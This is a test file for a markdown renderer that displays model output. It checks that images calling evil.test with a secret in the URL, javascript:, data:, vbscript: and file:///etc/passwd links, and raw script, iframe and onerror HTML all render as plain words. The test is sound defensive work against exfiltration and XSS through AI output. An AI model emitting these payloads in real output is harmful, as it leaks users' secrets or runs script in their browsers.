// @vitest-environment node
import { describe, expect, it } from "vitest";
import { nodesOf, safeHref, wordsOf } from "../src/runtime/markdown.ts";

const shown = (text: string) => JSON.stringify(nodesOf(text));

describe("case 70: what a model says cannot become anything but words", () => {
  it.each(["![x](https://evil.test/p?d=SECRET)", "![x][r]\n\n[r]: https://evil.test/p", "![](https://evil.test/p)"])(
    "no picture is fetched: %s",
    (text) => {
      expect(shown(text)).not.toContain("evil.test");
      expect(shown(text)).toContain("a picture");
    },
  );
  it.each([
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt:alert(1))",
    "[go](data:text/html,<script>alert(1)</script>)",
    "[go](&#106;avascript:alert(1))",
    "[go](vbscript:x)",
    "[go](file:///etc/passwd)",
    "[go](/relative)",
    "[go](//evil.test)",
    "[go](https://user:pass@evil.test/)",
  ])("a link that leads nowhere safe is words: %s", (text) => {
    expect(shown(text)).not.toContain('"link"');
  });
  it.each([
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<img src=x onerr",
  ])("raw HTML is text: %s", (text) => {
    expect(wordsOf(nodesOf(text))).toContain("<");
    expect(shown(text)).not.toMatch(/"tag":"(script|iframe|img)"/);
  });
  it("links to the web and to mail stay", () => {
    expect(safeHref("https://example.com/a")).toBe("https://example.com/a");
    expect(safeHref("mailto:a@example.com")).toBe("mailto:a@example.com");
    expect(shown("[a](https://example.com)")).toContain('"kind":"link"');
  });
});

describe("what is formatted", () => {
  it("lists, tables, code and emphasis are kept", () => {
    const text = "# Head\n\n- *one*\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx < y\n```";
    for (const tag of ["h1", "ul", "li", "em", "strong", "table", "td", "pre", "code"]) expect(shown(text)).toContain(`"tag":"${tag}"`);
  });
  it("words alone are for speaking", () => {
    expect(wordsOf(nodesOf("**Two** [soups](https://example.com)\n\n- pho")).trim()).toBe("Two soups\npho");
  });
});
